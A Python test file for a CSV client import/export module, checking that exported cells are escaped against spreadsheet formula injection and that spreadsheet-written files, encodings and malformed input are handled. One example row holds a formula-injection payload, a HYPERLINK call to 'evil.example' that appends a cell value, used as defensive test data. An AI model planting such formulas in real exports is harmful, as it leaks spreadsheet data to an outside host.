"""Clients as CSV: files of spreadsheets are read, and exported cells are text to spreadsheets."""

import csv
from io import StringIO

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from limits.domain.client_csv import (
    BYTE_ORDER_MARK,
    InvalidClientFile,
    decode,
    escape_formula,
    format_lines,
    parse_lines,
    unescape_formula,
)
from tests.configfile.documents import CHARACTERS
from tests.support.histories import history_settings

FORMULA = "=+-@\t\r\n＝＋－＠"
CELLS = st.text(CHARACTERS | st.sampled_from("=+-@'\",;＝＋－＠ "), max_size=12)
ROWS = st.lists(st.tuples(CELLS.filter(bool), CELLS, CELLS, CELLS, CELLS, CELLS), max_size=5)


def cells_by(delimiter: str, text: str) -> list[str]:
    """The cells as read by a spreadsheet with this delimiter."""
    rows = csv.reader(StringIO(text.removeprefix(BYTE_ORDER_MARK), newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


@history_settings(500)
@given(rows=ROWS)
@example(rows=[("=1+1", '=HYPERLINK("http://evil.example/"&A1)', "'=1", "''=1", "-1 -2", "=2")])
@example(rows=[("x;=1", 'x;"=1;"', ";'=1", '"=1', "", "+3")])
@example(rows=[("two\u2028lines", "a\u0085b", "\u2029", "\ufeff", "", "\u2028")])
@example(rows=[("\ufeff=1", "", "", "-", "-", "-")])
def test_exported_rows_can_be_imported_and_contain_no_formula(rows: list[tuple[str, ...]]) -> None:
    text = "".join(format_lines(rows))
    assert text.startswith(f"{BYTE_ORDER_MARK}key,name,plan,status,tags,parent\r\n")
    assert [tuple(line.fields.values()) for line in parse_lines(text)] == rows
    assert not [line.problem for line in parse_lines(text) if line.problem]
    for delimiter in ",;":
        assert not [cell for cell in cells_by(delimiter, text) if cell.startswith(tuple(FORMULA))]


@history_settings(500)
@given(cell=st.text(st.sampled_from("=+-@'\",;\t\r\n＝ a"), max_size=12))
def test_escaping_a_formula_is_reversible(cell: str) -> None:
    assert unescape_formula(escape_formula(cell)) == cell


@pytest.mark.parametrize("begin", FORMULA)
def test_a_cell_that_begins_like_a_formula_is_escaped(begin: str) -> None:
    assert escape_formula(f"{begin}1") == f"'{begin}1"
    assert escape_formula(f"'{begin}1") == f"''{begin}1"
    assert escape_formula(f"a{begin}1'") == f"a{begin}1'"


@pytest.mark.parametrize(
    ("content", "found"),
    [
        ("key,name\na,b\n", [("a", "b")]),
        ("\ufeffkey,name\ra,b\rc,d", [("a", "b"), ("c", "d")]),
        ("sep=;\r\nkey;name\r\na;b,c\r\n", [("a", "b,c")]),
        ("SEP=\t\nkey\tname\na\tb\n", [("a", "b")]),
        ("key\tname\na\tb;c,d\n", [("a", "b;c,d")]),
        ("key,name,,\na,b,,\nc,d\n", [("a", "b"), ("c", "d")]),
        ("key,name\na,\n", [("a", "")]),
        ("key,name\na\u2028b,c\u0085d\x0be\x1cf\n", [("a\u2028b", "c\u0085d\x0be\x1cf")]),
        ("key\n'=1\n''=1\n'a\n", [("=1",), ("'=1",), ("'a",)]),
    ],
)
def test_files_written_by_spreadsheets(content: str, found: list[tuple[str, ...]]) -> None:
    lines = list(parse_lines(content))
    assert [tuple(line.fields.values()) for line in lines] == found
    assert not [line.problem for line in lines if line.problem]


def test_lines_are_numbered_as_in_an_editor() -> None:
    content = 'sep=;\nkey;name\na;b\u2028c\n"d\ne";f\ng;h;i\nj\n'
    assert [(line.number, line.problem) for line in parse_lines(content)] == [
        (3, ""),
        (5, ""),
        (6, "The line has 3 columns, but the first line has 2."),
        (7, "The line has 1 column, but the first line has 2."),
    ]


@pytest.mark.parametrize(
    ("content", "line", "message"),
    [
        ("", 1, "The file is empty"),
        ("sep=;\n", 1, "The file is empty"),
        ("\ufeff", 1, "The file is empty"),
        (",,\n", 1, "one of them must be “key”"),
        ("key,,name\n", 1, "no column “”"),
        ("key\na\n" + "b" * 200_000, 3, "The line cannot be read: field larger"),
    ],
)
def test_invalid_files_are_rejected(content: str, line: int, message: str) -> None:
    with pytest.raises(InvalidClientFile, match=message) as refused:
        list(parse_lines(content))
    assert refused.value.line == line


def test_the_encodings_of_spreadsheets() -> None:
    text = "key\tname\nä\tÖ\n"
    for encoding in ("utf-8", "utf-8-sig", "utf-16"):
        assert decode(text.encode(encoding)) == text
    assert decode(b"\xfe\xff" + text.encode("utf-16-be")) == text
    for broken in (b"key\n\xff\xfe\n", text.encode("latin-1"), b"\xff\xfea"):
        with pytest.raises(UnicodeDecodeError):
            decode(broken)
